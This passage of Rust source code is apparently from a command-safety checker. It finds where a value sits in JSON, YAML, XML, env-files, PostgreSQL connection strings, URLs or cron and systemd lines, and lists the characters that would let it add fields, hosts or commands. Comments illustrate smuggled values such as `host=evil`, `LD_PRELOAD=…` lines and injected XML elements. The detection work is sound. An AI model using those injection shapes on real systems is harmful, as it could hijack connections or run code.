//! A value inside a document that a program reads: JSON (`kubectl patch -p '{"spec":…}'`,
//! `curl -d '{"text":"…"}'`, a here-document), a YAML manifest (`kubectl apply -f - <<EOF`),
//! a line of an env-file (`KEY=…` written to a file), a PostgreSQL connection string
//! (`psql "host=db dbname=…"`), a URL, a path under a fixed folder. In each, some characters
//! of the value would make more of the document's structure: another field or key, another
//! setting, another host or query, a folder above (audit 26 HOLE-2, -14, -19, -21, -23).
//!
//! Each place says which characters; [`super::files::FileArgument::hold`] puts them in the
//! plan, which refuses a value holding one of them ([`super::types::Refusal::Shape`]).

use std::collections::BTreeSet;

use super::files::{FileArgument, LINE, before_value, found, innermost_program, shaped};
use super::holding::Holding;
use super::types::SENTINEL;
use crate::shell::programs::{MAIL_PROGRAMS, base};
use crate::shell::words::{Command, Word, cook_heredoc};

/// What the documents `at` stands in make of the value, outermost first (`held`: the
/// commands of `list` and the words of each holding it).
pub(super) fn formats(
    text: &str,
    list: &[Command],
    at: usize,
    held: &[Holding],
) -> Vec<FileArgument> {
    let mut out = Vec::new();
    for h in held {
        let (n, cmd) = (h.n, h.cmd);
        let to_file = written_to(text, list, n);
        for (w, k, before) in &h.words {
            // `cat >> F <<< "MODE={{ v }}"`: the text the command reads.
            if w.herestring {
                if let Some(i) = w.cooked.find(SENTINEL).filter(|_| w.span.contains(&at)) {
                    out.extend(in_document(
                        list,
                        n,
                        &w.cooked[..i],
                        w.cooked[i..].trim_start_matches(SENTINEL),
                        to_file.as_deref(),
                    ));
                }
                continue;
            }
            if w.redirect && !w.span.contains(&at) {
                continue;
            }
            out.extend(in_word(text, h, (w, *k, before), to_file.as_deref()));
        }
        for d in &cmd.heredocs {
            if !d.body.contains(&at) {
                continue;
            }
            let body = if d.quoted {
                text.get(d.body.clone()).map(str::to_string)
            } else {
                cook_heredoc(text, d.body.clone()).map(|(cooked, _)| cooked)
            };
            let Some(body) = body else { continue };
            let Some(k) = body.find(SENTINEL) else {
                continue;
            };
            out.extend(in_document(
                list,
                n,
                &body[..k],
                body[k..].trim_start_matches(SENTINEL),
                to_file.as_deref(),
            ));
        }
    }
    out
}

/// Whether the rest of a configuration file's line after a value ends a directive with `;`
/// (nginx's `server_name {{ v }};`, HAProxy's and BIND's too): there, `;` ends the
/// directive and braces open or close a block.
fn ends_directive(after: &str) -> bool {
    let line = after.split('\n').next().unwrap_or(after);
    line.contains(';')
}

/// Where the value starts a command of a file that runs its lines as commands (a program
/// in a `bin/` folder, a git hook, a shell's start-up file, a cron entry's command, a
/// systemd unit's `ExecStart=`): whatever it holds, even one plain word (`reboot`), it is a
/// command there (audit 27 HOLE-10). The file, and what runs it.
pub(super) fn starts_a_command(
    text: &str,
    list: &[Command],
    at: usize,
    targets: &BTreeSet<String>,
) -> Option<(String, &'static str)> {
    for (n, cmd) in list.iter().enumerate() {
        let Some(file) = written_to(text, list, n) else {
            continue;
        };
        let Some(runs) = runs_lines(&file) else {
            continue;
        };
        let args = cmd.args();
        let program = innermost_program(&args).map_or("", |p| base(&args[p].cooked));
        let mut befores: Vec<String> = Vec::new();
        for w in &cmd.words {
            if w.redirect && !w.span.contains(&at) {
                continue;
            }
            if w.herestring {
                if let Some(k) = w.cooked.find(SENTINEL).filter(|_| w.span.contains(&at)) {
                    befores.push(w.cooked[..k].to_string());
                }
                continue;
            }
            let Some(before) = before_value(text, w, at, targets) else {
                continue;
            };
            let k = args.iter().position(|a| std::ptr::eq(*a, w));
            // (A `printf` argument starts where the format's `%s` is.)
            match args
                .get(1)
                .filter(|_| program == "printf" && k.is_some_and(|k| k > 1))
            {
                Some(format) => befores.push(
                    format
                        .cooked
                        .split(['%'])
                        .next()
                        .unwrap_or("")
                        .replace("\\n", "\n"),
                ),
                None => befores.push(before.replace("\\n", "\n")),
            }
        }
        for h in cmd.heredocs.iter().filter(|h| h.body.contains(&at)) {
            let body = if h.quoted {
                text.get(h.body.clone()).map(str::to_string)
            } else {
                cook_heredoc(text, h.body.clone()).map(|(cooked, _)| cooked)
            };
            if let Some(body) = body
                && let Some(k) = body.find(SENTINEL)
            {
                befores.push(body[..k].to_string());
            }
        }
        if befores.iter().any(|b| {
            let line = b.rsplit('\n').next().unwrap_or(b);
            command_starts(line, runs)
        }) {
            return Some((file, runs));
        }
    }
    None
}

/// What runs the lines of `file` as commands, if anything does.
fn runs_lines(file: &str) -> Option<&'static str> {
    let name = file.rsplit('/').next().unwrap_or(file);
    if file.contains("/cron") || file.contains("crontab") {
        return Some("cron");
    }
    if super::settings::unit_file(file) {
        return Some("systemd");
    }
    let program = super::types::program_file(file) || name.ends_with(".sh");
    program.then_some("the shell")
}

/// Whether a value after `before` (a unit's line or `systemd-run -p` property, up to it)
/// starts the command of an `Exec…=` setting.
pub(super) fn starts_exec(before: &str) -> bool {
    command_starts(before, "systemd")
}

/// Whether a value after `line` (the text before it on its line) starts a command of a file
/// whose lines `runs` runs.
fn command_starts(line: &str, runs: &str) -> bool {
    let line = line.trim();
    match runs {
        // `m h dom mon dow [user] command`, or `@daily [user] command`.
        "cron" => {
            let fields: Vec<&str> = line.split_whitespace().collect();
            let schedule = if fields.first().is_some_and(|f| f.starts_with('@')) {
                1
            } else {
                5
            };
            let timed = fields.iter().take(schedule).all(|f| {
                f.starts_with('@')
                    || f.chars()
                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '*' | '/' | ',' | '-'))
            });
            timed && (fields.len() == schedule || fields.len() == schedule + 1)
        }
        "systemd" => {
            line.starts_with("Exec")
                && line
                    .trim_end_matches(['-', '@', ':', '+', '!'])
                    .ends_with('=')
        }
        _ => {
            line.is_empty()
                || line.ends_with([';', '&', '|', '(', '{', '`'])
                || line.ends_with("$(")
                || line.ends_with(" then")
                || line.ends_with(" do")
                || line == "then"
                || line == "do"
                || line.ends_with(" exec")
                || line == "exec"
        }
    }
}

/// The characters that end a line of a file written by `echo` or `printf` (which turn
/// `\n` into one: `echo -e`, dash's `echo`, a `printf` format or `%b`).
const PRINTED_LINE: &str = "\n\r\\";

/// What ends a directive of a configuration file whose directives end with `;` (and a line).
const DIRECTIVE: &str = ";{}\n\r";
const PRINTED_DIRECTIVE: &str = ";{}\n\r\\";

/// A value in word `w` of command `h` (`k`: its index among the arguments), after `before`
/// (quotes removed); `to_file`: where the command's output is written.
fn in_word(
    text: &str,
    h: &Holding,
    (w, k, before): (&Word, Option<usize>, &str),
    to_file: Option<&str>,
) -> Vec<FileArgument> {
    let mut out = Vec::new();
    let (args, p) = (&h.args, h.program);
    let program = p.and_then(|p| args.get(p)).map_or("", |a| base(&a.cooked));
    let previous = k
        .and_then(|k| k.checked_sub(1))
        .and_then(|k| args.get(k))
        .map_or("", |a| a.cooked.as_str());
    // (A `printf` argument stands where the format's `%s` is: `printf '{"text":"%s"}'`.)
    let format = (program == "printf" && k.is_some_and(|k| k > 1 && before.is_empty()))
        .then(|| args.get(1).map(|f| f.cooked.as_str()))
        .flatten()
        .filter(|f| f.contains("%s") || f.contains("%b"))
        .map(|f| f.split(['%']).next().unwrap_or(f));
    if let Some(found) = json(before).or_else(|| format.and_then(json)) {
        out.push(found);
    } else if matches!(program, "kubectl" | "oc")
        && (matches!(previous, "-p" | "--patch") || before.starts_with("--patch="))
    {
        // `kubectl patch -p "spec: {replicas: …}"`: a patch in YAML.
        let patch = before.strip_prefix("--patch=").unwrap_or(before);
        out.extend(yaml(patch.rsplit('\n').next().unwrap_or(patch)));
    }
    if let Some(found) = conninfo(args, p, k, before) {
        out.push(found);
    }
    // (`curl "$API/users/{{ v }}"`: a URL that starts with a variable.)
    let fetches = matches!(program, "curl" | "wget" | "http" | "https" | "xh" | "xhs")
        && w.expansions.first().is_some_and(|e| {
            text.get(w.span.start..e.span.start)
                .is_some_and(|t| t.chars().all(|c| matches!(c, '"' | '\'')))
        });
    if let Some(found) = url(before, false, fetches) {
        out.push(found);
    }
    if let Some(found) = under_folder(before) {
        out.push(found);
    }
    // `PATH="/usr/lib/{{ v }}/bin:$PATH" kubectl …`, `export KUBECONFIG=…`: the value picks
    // which program or configuration runs.
    if let Some(found) = program_path(h, k, before) {
        out.push(found);
    }
    // `mail -s "[incident] {{ v }}"`: a new line would add headers.
    if MAIL_PROGRAMS.contains(&program) && (previous == "-s" || before.starts_with("-s")) {
        out.extend(shaped(LINE, MAIL_HEADER));
    }
    // `swaks --header "Subject: {{ v }}"`, `--h-Subject "{{ v }}"`: a header too.
    if program == "swaks"
        && (matches!(previous, "--header" | "--add-header" | "--ah")
            || previous.starts_with("--h-")
            || before.starts_with("--h-")
            || before.starts_with("--header="))
    {
        out.extend(shaped(LINE, MAIL_HEADER));
    }
    // `awk -v tag="{{ v }}" '…' app.env > app.env.new`, `jq -rn --arg t "{{ v }}" …`:
    // a value awk or jq prints into a file of lines.
    if let Some(found) = rewritten_line(h, k, previous, before, to_file) {
        out.push(found);
        return out;
    }
    // `echo "MODE={{ v }}" >> app.env`, `printf 'MODE=%s\n' "{{ v }}" | sudo tee F`: a new
    // line would be another variable or setting of the file.
    if let Some(file) = to_file {
        // (First: an XML file's rule holds a file of settings' new line too.)
        if file.ends_with(".xml") {
            out.extend(xml(before, Some(file)));
        }
        out.extend(super::settings::file_line(file));
        let line = before.rsplit('\n').next().unwrap_or(before);
        // (A `printf` argument: its line is the format's, up to the `%s`.)
        let format_line = (program == "printf" && k.is_some_and(|k| k > 1))
            .then(|| args.get(1).map(|f| f.cooked.as_str()))
            .flatten()
            .and_then(|f| f.split("%s").next().or(Some(f)))
            .map(|f| f.rsplit("\\n").next().unwrap_or(f).to_string());
        let named = env_line(line) || format_line.as_deref().is_some_and(env_line);
        if named || config_file(file) {
            // (`printf '%s'` writes its argument as it is; `echo` (dash's, or `-e`), a
            // printf format and `%b` turn `\\n` into a new line.)
            let plain = program == "printf"
                && k.is_some_and(|k| k > 1)
                && args.get(1).is_some_and(|f| !f.cooked.contains("%b"));
            // (What follows the value on its line: the word's rest, or the format's after
            // its `%s`.)
            let after = if program == "printf" && k.is_some_and(|k| k > 1) {
                args.get(1)
                    .and_then(|f| f.cooked.split_once("%s").or(f.cooked.split_once("%b")))
                    .map(|(_, rest)| rest.split("\\n").next().unwrap_or(rest))
            } else {
                w.cooked
                    .split_once(SENTINEL)
                    .map(|(_, rest)| rest.trim_start_matches(SENTINEL))
            };
            if !named && after.is_some_and(ends_directive) {
                out.extend(shaped(
                    if plain { DIRECTIVE } else { PRINTED_DIRECTIVE },
                    CONFIG_DIRECTIVE,
                ));
            }
            out.extend(shaped(if plain { LINE } else { PRINTED_LINE }, ENV_LINE));
        }
        if file.ends_with(".yaml") || file.ends_with(".yml") {
            out.extend(yaml(line));
        }
    }
    out
}

/// Programs that print their input rewritten, with values given as variables: awk (whose
/// `-v name=…` and `name=…` operands decode `\n`, `\012`, `\\`) and jq (`--arg`, printed
/// as it is by `-r`/`-j`; `--argjson` decodes a JSON string's escapes). The characters that
/// would make a new line where they print a value, by program.
fn rewriter(name: &str) -> Option<&'static str> {
    match name {
        "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk" => Some(PRINTED_LINE),
        "jq" | "gojq" | "jaq" => Some(LINE),
        _ => None,
    }
}

/// A value given to awk (`-v NAME=…`, a `NAME=…` operand) or to jq printing raw text
/// (`--arg NAME …`, `--argjson`) whose output is written to a file of lines (an env-file,
/// a configuration file or a YAML file, or a file named after one: `app.env.new`), or which
/// reads such a file: a new line it prints would add a variable or key (audit 41 A41-15).
fn rewritten_line(
    h: &Holding,
    k: Option<usize>,
    previous: &str,
    before: &str,
    to_file: Option<&str>,
) -> Option<FileArgument> {
    let (p, k) = (h.program?, k?);
    let program = base(&h.args.get(p)?.cooked);
    let mut chars = rewriter(program)?;
    let words: Vec<&str> = h.args[p + 1..].iter().map(|a| a.cooked.as_str()).collect();
    let given = if program.ends_with("awk") {
        let assignment = before
            .split_once('=')
            .is_some_and(|(n, _)| crate::values::is_identifier(n.trim_start_matches("-v")));
        assignment && (previous == "-v" || before.starts_with("-v") || !before.starts_with('-'))
    } else {
        let raw = words.iter().any(|w| {
            matches!(*w, "--raw-output" | "--join-output" | "--raw-output0")
                || (w.starts_with('-')
                    && !w.starts_with("--")
                    && w[1..].chars().any(|c| c == 'r' || c == 'j'))
        });
        let option = k
            .checked_sub(2)
            .filter(|&m| m > p)
            .map(|m| h.args[m].cooked.as_str());
        if option == Some("--argjson") {
            chars = PRINTED_LINE;
        }
        raw && before.is_empty() && matches!(option, Some("--arg" | "--argjson"))
    };
    if !given {
        return None;
    }
    let lines = |f: &str| {
        let f = f.trim_matches(['"', '\'']);
        let stem = [".new", ".tmp", ".bak", ".orig"]
            .iter()
            .find_map(|x| f.strip_suffix(x))
            .unwrap_or(f);
        [f, stem].iter().any(|f| {
            config_file(f)
                || f.ends_with(".yaml")
                || f.ends_with(".yml")
                || f.ends_with(".properties")
        })
    };
    let reads = words.iter().any(|w| !w.starts_with('-') && lines(w));
    (to_file.is_some_and(lines) || (reads && to_file.is_some())).then_some(())?;
    shaped(chars, REWRITTEN_LINE)
}

const REWRITTEN_LINE: &str = "awk or jq prints it into a file of lines (an env-file, a configuration or YAML file), where a new line would add another variable or key (`LD_PRELOAD=…`), and awk's `-v` (or jq's `--argjson`) makes one of `\\n`: give a value on one line (awk reads `ENVIRON[\"name\"]` as it is, with no escapes)";

/// A value in a document a command reads on its input (a here-document, a here-string),
/// after `before`.
fn in_document(
    list: &[Command],
    n: usize,
    before: &str,
    after: &str,
    to_file: Option<&str>,
) -> Vec<FileArgument> {
    let mut out = Vec::new();
    let line = before.rsplit('\n').next().unwrap_or(before);
    let file = to_file.unwrap_or("");
    if let Some(found) = json(before.trim_start()) {
        out.push(found);
    } else if yaml_reader(list, n)
        || file.ends_with(".yaml")
        || file.ends_with(".yml")
        || yaml_like(before)
    {
        out.extend(yaml(line));
    }
    // (First: an XML file's rule holds a file of settings' new line too.)
    out.extend(xml(before, to_file));
    out.extend(to_file.and_then(super::settings::file_line));
    let named = env_line(line);
    if named || (to_file.is_some() && config_file(file)) {
        if !named && ends_directive(after) {
            out.extend(shaped(DIRECTIVE, CONFIG_DIRECTIVE));
        }
        out.extend(shaped(LINE, ENV_LINE));
    }
    // `sendmail -t <<EOF` with `Subject: … {{ v }}`: a new line in the headers adds one.
    if mail_reader(list, n) && !before.contains("\n\n") {
        out.extend(shaped(LINE, MAIL_HEADER));
    }
    if let Some(found) = url(line, true, false) {
        out.push(found);
    }
    out
}

/// A value in an XML document (`*-site.xml`, Tomcat's `server.xml`, any `*.xml` written, or
/// a document that starts as XML: `<?xml`, `<configuration>`): `<`, `>` and `&` would add an
/// element or an entity, and inside a tag a quote would end the attribute (audit 41 A41-22).
fn xml(before: &str, file: Option<&str>) -> Option<FileArgument> {
    let start = before.trim_start();
    let is_xml = file.is_some_and(|f| f.trim_matches(['"', '\'']).ends_with(".xml"))
        || start.starts_with("<?xml")
        || (start.starts_with('<')
            && start[1..].starts_with(|c: char| c.is_ascii_alphabetic())
            && start.contains('>'));
    if !is_xml {
        return None;
    }
    let in_tag = match (before.rfind('<'), before.rfind('>')) {
        (Some(open), Some(close)) => open > close,
        (open, _) => open.is_some(),
    };
    shaped(if in_tag { "<>&\"'\n\r" } else { "<>&\n\r" }, XML)
}

const XML: &str = "it stands in an XML document, where `<` and `>` would add or end an element (`</value></property><property>…`), `&` start an entity, a quote end an attribute's value, and a new line start another line of the file: give a name or value without them";

/// The programs a command's input, or the command it is piped to, goes to (after `sudo`,
/// `env`… and into a container's command).
fn readers(list: &[Command], n: usize) -> Vec<(Vec<&Word>, usize)> {
    let mut out = Vec::new();
    let mut k = n;
    while let Some(cmd) = list.get(k) {
        let args = cmd.args();
        if let Some(p) = innermost_program(&args) {
            let name = base(&args[p].cooked).to_string();
            out.push((args, p));
            // (`cat <<EOF | helm … -f -`: cat hands the document on.)
            if name == "cat" && cmd.piped {
                k += 1;
                continue;
            }
        }
        break;
    }
    out
}

/// Whether the command (or the one `cat` hands its input to) reads a YAML document on its
/// input: `kubectl apply|create|replace -f -`, `kubectl patch --patch-file /dev/stdin`,
/// `helm … -f -`.
fn yaml_reader(list: &[Command], n: usize) -> bool {
    readers(list, n).into_iter().any(|(args, p)| {
        let name = base(&args[p].cooked);
        let stdin = |w: &str| matches!(w, "-" | "/dev/stdin");
        let reads_stdin = args[p..].windows(2).any(|w| {
            matches!(
                w[0].cooked.as_str(),
                "-f" | "--filename" | "--values" | "--patch-file" | "--from-file"
            ) && stdin(&w[1].cooked)
        }) || args[p..].iter().any(|a| {
            a.cooked.split_once('=').is_some_and(|(o, v)| {
                matches!(o, "--filename" | "--values" | "--patch-file") && stdin(v)
            }) || a.cooked == "-f-"
        });
        reads_stdin && matches!(name, "kubectl" | "oc" | "helm" | "kustomize" | "k3s")
    })
}

/// Whether the command reads a mail message with its headers on its input (`sendmail -t`,
/// `msmtp -t`, `mail -t`). (`mail -s …` reads the body alone: `batches.rs` holds it.)
fn mail_reader(list: &[Command], n: usize) -> bool {
    readers(list, n)
        .into_iter()
        .any(|(args, p)| match base(&args[p].cooked) {
            "sendmail" | "msmtp" | "ssmtp" => true,
            name if MAIL_PROGRAMS.contains(&name) => args[p + 1..]
                .iter()
                .any(|a| a.cooked == "-t" || a.cooked == "--template"),
            _ => false,
        })
}

/// The file what command `n` of `list` prints is written to: its own `>`/`>>`
/// redirection (or that of the group it stands in), or `tee`/`dd of=`/`sponge` it is piped
/// into; `None` where it prints elsewhere. Only for commands that print their arguments or
/// input (`echo`, `printf`, `cat`, `tee`).
pub(super) fn written_to(text: &str, list: &[Command], n: usize) -> Option<String> {
    let cmd = list.get(n)?;
    let args = cmd.args();
    let p = innermost_program(&args)?;
    let name = base(&args.get(p)?.cooked);
    // `systemctl edit --stdin UNIT <<EOF`: the document is the unit's (audit 28 H-13).
    if name == "systemctl" {
        return crate::shell::spill::unit_edited(&args, p);
    }
    if name == "tee" || name == "sponge" {
        return args[p + 1..]
            .iter()
            .find(|a| !a.cooked.starts_with('-'))
            .map(|a| a.cooked.clone());
    }
    if !matches!(name, "echo" | "printf" | "cat") && rewriter(name).is_none() {
        return None;
    }
    let redirected = cmd.words.iter().chain(cmd.inherited.iter()).find(|w| {
        let before = text.get(..w.span.start).unwrap_or("").trim_end();
        w.redirect
            && !w.herestring
            && before.ends_with('>')
            && !before.ends_with(">&")
            && !w.cooked.starts_with("/dev/")
    });
    if let Some(w) = redirected {
        // (`>> "$RUNBOOK_ENV"`: runbook reads those lines itself, and refuses a value of
        // several lines there with its own message.)
        let raw = text.get(w.span.clone()).unwrap_or("");
        if raw.contains("RUNBOOK_ENV") || raw.contains("RUNBOOK_OUTPUT") {
            return None;
        }
        return Some(w.cooked.clone());
    }
    if !cmd.piped {
        return None;
    }
    let next = list.get(n + 1)?;
    let args = next.args();
    let p = innermost_program(&args)?;
    match base(&args.get(p)?.cooked) {
        "tee" | "sponge" => args[p + 1..]
            .iter()
            .find(|a| !a.cooked.starts_with('-'))
            .map(|a| a.cooked.clone()),
        "dd" => args[p + 1..]
            .iter()
            .find_map(|a| a.cooked.strip_prefix("of=").map(str::to_string)),
        _ => None,
    }
}

/// A file whose lines are settings of a program or the system: under `/etc/`, an env-file,
/// a configuration file by its name.
fn config_file(path: &str) -> bool {
    const EXTENSIONS: &[&str] = &[
        "conf",
        "cnf",
        "cfg",
        "ini",
        "toml",
        "properties",
        "service",
        "timer",
        "socket",
        "rules",
        "list",
        "repo",
        "network",
        "preload",
    ];
    const NAMES: &[&str] = &[
        "sshd_config",
        "ssh_config",
        ".pgpass",
        ".netrc",
        ".bashrc",
        ".profile",
        ".bash_profile",
        ".zshrc",
    ];
    let name = path.rsplit('/').next().unwrap_or(path);
    let ext = name.rsplit_once('.').map_or("", |(_, e)| e);
    path.starts_with("/etc/")
        || name.starts_with(".env")
        || name.ends_with(".env")
        || EXTENSIONS.contains(&ext)
        || NAMES.contains(&name)
        || ["/.ssh/", "/.kube/", "/.docker/", "/.aws/", "/.config/"]
            .iter()
            .any(|d| path.contains(d) || path.starts_with(&d[1..]))
}

/// Where `before` ends inside a JSON document that starts it (or starts after an option's
/// `=`): in a string, `"` ends it and `\` escapes what follows; between tokens, the value
/// must be one number or word.
fn json(before: &str) -> Option<FileArgument> {
    let start = if before.starts_with(['{', '[']) {
        0
    } else {
        before
            .char_indices()
            .find(|(k, c)| matches!(c, '{' | '[') && before[..*k].ends_with('='))?
            .0
    };
    let doc = &before[start..];
    // (Shell braces, `{a,b}`, and a `[` of a test are not JSON: a document has keys.)
    if !(doc.contains('"') || (doc.starts_with('{') && doc.contains(':'))) {
        return None;
    }
    let mut in_string = false;
    let mut escaped = false;
    for c in doc.chars() {
        if escaped {
            escaped = false;
        } else if in_string && c == '\\' {
            escaped = true;
        } else if c == '"' {
            in_string = !in_string;
        }
    }
    if escaped {
        return None; // (After a `\`: the value's first character is escaped; data.)
    }
    if in_string && json_shell_script(doc) {
        shaped(JSON_SCRIPT_CHARS, JSON_SCRIPT)
    } else if in_string {
        found(&[], "\"\\", JSON_STRING)
    } else {
        shaped("\"',:{}[]#\\\n\r", JSON_BARE)
    }
}

/// Whether `doc` ends inside a string of a JSON array that a shell runs as its script: an
/// array after whose `"sh", "-c"` it stands (also `"bash", "-e", "-c"`, `"sh", "-o",
/// "pipefail", "-c"`: `"command": ["sh", "-c", "…"]` of a container, an ECS task's
/// `--overrides`, `kubectl patch -p`), or another array of the object that holds such a one
/// (Kubernetes' `"command": ["sh", "-c"], "args": ["…"]`) (audit 29 H-16).
fn json_shell_script(doc: &str) -> bool {
    enum Frame {
        /// An array's strings (`None` for another kind of element), and whether they run a
        /// shell's script.
        Array(Vec<Option<String>>, bool),
        /// An object, and whether one of its arrays runs a shell's script.
        Object(bool),
    }
    let shell_c = |elements: &[Option<String>]| {
        let is_c = |flag: &str| {
            flag.len() > 1
                && flag.starts_with('-')
                && flag.ends_with('c')
                && flag[1..].bytes().all(|b| b.is_ascii_lowercase())
        };
        elements.iter().enumerate().any(|(k, e)| {
            e.as_deref()
                .is_some_and(|s| crate::shell::programs::SHELLS.contains(&base(s)))
                && elements[k + 1..]
                    .iter()
                    .map_while(|e| e.as_deref())
                    .any(is_c)
        })
    };
    let mut frames: Vec<Frame> = Vec::new();
    let mut string: Option<String> = None;
    let mut escaped = false;
    for c in doc.chars() {
        if let Some(text) = string.as_mut() {
            if escaped {
                escaped = false;
                text.push(c);
            } else if c == '\\' {
                escaped = true;
            } else if c == '"' {
                let done = string.take();
                if let Some(Frame::Array(elements, runs)) = frames.last_mut() {
                    elements.push(done);
                    *runs = *runs || shell_c(elements);
                }
            } else {
                text.push(c);
            }
            continue;
        }
        match c {
            '"' => string = Some(String::new()),
            '[' | '{' => {
                if let Some(Frame::Array(elements, _)) = frames.last_mut() {
                    elements.push(None);
                }
                frames.push(if c == '[' {
                    Frame::Array(Vec::new(), false)
                } else {
                    Frame::Object(false)
                });
            }
            ']' | '}' => {
                let ran = matches!(frames.pop(), Some(Frame::Array(_, true)));
                if let Some(Frame::Object(runs)) = frames.last_mut() {
                    *runs = *runs || ran;
                }
            }
            _ => {}
        }
    }
    let held_by_runner = |k: usize| {
        k.checked_sub(1)
            .and_then(|k| frames.get(k))
            .is_some_and(|f| matches!(f, Frame::Object(true)))
    };
    string.is_some()
        && match frames.last() {
            Some(Frame::Array(_, runs)) => *runs || held_by_runner(frames.len() - 1),
            _ => false,
        }
}

/// A document that reads as YAML: a Kubernetes manifest, a `---` start.
fn yaml_like(before: &str) -> bool {
    let first = before.trim_start().lines().next().unwrap_or("");
    first == "---"
        || first.starts_with("apiVersion:")
        || before.lines().any(|l| l.starts_with("kind:"))
}

/// Where a value after `line` stands in a YAML line: a quoted scalar ends at its quote; in a
/// plain one, a new line starts another key, and a first character `{ [ & * ! | >` … gives
/// it another type or structure.
fn yaml(line: &str) -> Option<FileArgument> {
    let mut quote = None;
    let mut escaped = false;
    let mut flow = 0i32;
    for c in line.chars() {
        match quote {
            Some('"') if escaped => escaped = false,
            Some('"') if c == '\\' => escaped = true,
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if matches!(c, '"' | '\'') => quote = Some(c),
            None if matches!(c, '{' | '[') => flow += 1,
            None if matches!(c, '}' | ']') => flow -= 1,
            None if c == '#' => return None, // (A comment.)
            None => {}
        }
    }
    match quote {
        Some('"') => found(&[], "\"\\", YAML_QUOTED),
        Some(_) => found(&[], "'", YAML_QUOTED),
        None if flow > 0 => shaped("\n\r,{}[]", YAML_FLOW),
        None => {
            let starts = line.trim_end().is_empty()
                || line.ends_with(": ")
                || line.trim_end().ends_with(':')
                || line.trim_start() == "-"
                || line.ends_with("- ");
            let first: &'static [&'static str] = if starts { YAML_STARTS } else { &[] };
            found(first, "", YAML_PLAIN).map(|f| FileArgument { shape: LINE, ..f })
        }
    }
}

/// The first characters that give a plain YAML scalar another type or structure.
const YAML_STARTS: &[&str] = &[
    "{", "[", "&", "*", "!", "|", ">", "'", "\"", "%", "@", "`", "#", "- ", "? ", ": ",
];

/// `NAME=` at the end of a line (`export NAME=`): the value of an env-file's variable.
fn env_line(line: &str) -> bool {
    let line = line.trim_start();
    let line = line.strip_prefix("export ").unwrap_or(line).trim_start();
    let Some(name) = line.strip_suffix('=') else {
        return false;
    };
    crate::values::is_identifier(name)
}

/// The PostgreSQL programs, whose database argument is a connection string when it holds
/// `=` or starts with `postgresql://`.
const LIBPQ: &[&str] = &[
    "psql",
    "pg_dump",
    "pg_dumpall",
    "pg_restore",
    "pg_isready",
    "pg_basebackup",
    "pg_receivewal",
    "pg_recvlogical",
    "pgbench",
    "createdb",
    "dropdb",
    "vacuumdb",
    "reindexdb",
    "clusterdb",
    "pg_amcheck",
];

/// A value in a PostgreSQL connection string (`host=db dbname={{ v }}`): a space starts
/// another setting (`host=evil`); or the whole database argument of a libpq program, which
/// is one with `=` or `postgresql://`.
fn conninfo(
    args: &[&Word],
    p: Option<usize>,
    k: Option<usize>,
    before: &str,
) -> Option<FileArgument> {
    let last = before.rsplit([' ', '\t', '\n']).next().unwrap_or(before);
    let key = last
        .strip_suffix("='")
        .or_else(|| last.strip_suffix('='))
        .filter(|k| !k.is_empty() && k.chars().all(|c| c.is_ascii_lowercase() || c == '_'));
    if let Some(key) = key
        && (CONNINFO_KEYS.contains(&key)
            || CONNINFO_KEYS
                .iter()
                .any(|k| before.contains(&format!("{k}="))))
    {
        return if last.ends_with('\'') {
            found(&[], "'\\", CONNINFO)
        } else {
            shaped(" \t\n\r'\\", CONNINFO)
        };
    }
    let p = p?;
    if !LIBPQ.contains(&base(&args.get(p)?.cooked)) {
        return None;
    }
    let k = k?;
    let previous = args.get(k.checked_sub(1)?)?.cooked.as_str();
    // (`-d"{{ v }}"`, `--dbname={{ v }}`.)
    let joined = matches!(before, "--dbname=" | "-d" | "--maintenance-db=");
    if !before.is_empty() && !joined {
        return None;
    }
    let database = joined
        || matches!(previous, "-d" | "--dbname" | "--maintenance-db")
        || (k > p && first_operand(base(&args[p].cooked), &args[p + 1..]) == Some(k - p - 1));
    database
        .then_some(())
        .and_then(|()| found(&["postgresql:", "postgres:"], "", DBNAME))
        .map(|f| FileArgument { shape: "=", ..f })
}

/// The keys of a PostgreSQL connection string.
const CONNINFO_KEYS: &[&str] = &[
    "host",
    "hostaddr",
    "dbname",
    "user",
    "port",
    "password",
    "passfile",
    "sslmode",
    "sslrootcert",
    "sslcert",
    "sslkey",
    "service",
    "options",
    "application_name",
    "fallback_application_name",
    "connect_timeout",
    "client_encoding",
    "target_session_attrs",
    "gssencmode",
    "krbsrvname",
    "channel_binding",
];

/// The index in `args` (a libpq program's arguments) of its first operand: options and
/// their values skipped.
fn first_operand(program: &str, args: &[&Word]) -> Option<usize> {
    // (The short options that take a value, by program; psql's `-t` is a flag, pg_dump's
    // takes a table.)
    let short = match program {
        "psql" => "cdfhpUvoLPTFR",
        "pg_dump" => "dfFjnNtTZhpUSeE",
        "pg_restore" => "dfFIjLnNPtThpUS",
        _ => "dfhpUjtSTn",
    };
    let mut k = 0;
    while k < args.len() {
        let a = args[k].cooked.as_str();
        if a == "--" {
            return (k + 1 < args.len()).then_some(k + 1);
        }
        if let Some(long) = a.strip_prefix("--") {
            let takes = !long.contains('=')
                && matches!(
                    long,
                    "host"
                        | "port"
                        | "username"
                        | "file"
                        | "command"
                        | "set"
                        | "variable"
                        | "format"
                        | "table"
                        | "schema"
                        | "output"
                        | "log-file"
                        | "pset"
                        | "jobs"
                        | "exclude-table"
                        | "exclude-schema"
                        | "encoding"
                        | "role"
                );
            k += if takes { 2 } else { 1 };
            continue;
        }
        if let Some(flags) = a.strip_prefix('-').filter(|f| !f.is_empty()) {
            // (`-U app`, `-Uapp`, `-At`: a value-taking option last takes the next word.)
            let taking = flags.char_indices().find(|(_, c)| short.contains(*c));
            k += match taking {
                Some((at, _)) if at + 1 == flags.len() => 2,
                _ => 1,
            };
            continue;
        }
        return Some(k);
    }
    None
}

/// A value in a URL that `before` ends in: in the host, `/ ? # @ \` make another host; in
/// the path, `?` and `#` another query or an end, `..` a folder above; in the query, `&`
/// and `#` another parameter or an end. The URL starts the word or follows an option's
/// `=` (`in_text`: a line of a document, after a space, `:` or a quote too): a URL in a
/// sentence is text.
fn url(before: &str, in_text: bool, fetches: bool) -> Option<FileArgument> {
    // `curl "$API/users/{{ v }}"`: a URL whose start is a variable, given to a program that
    // fetches it.
    if fetches && !before.contains("://") {
        let rest = before;
        return after_host(rest).or_else(|| {
            rest.contains('/')
                .then_some(())
                .and_then(|()| shaped("?#", URL_PATH))
                .map(|f| FileArgument {
                    no_parent: true,
                    ..f
                })
        });
    }
    let scheme_end = before.rfind("://")?;
    let scheme_start = before[..scheme_end]
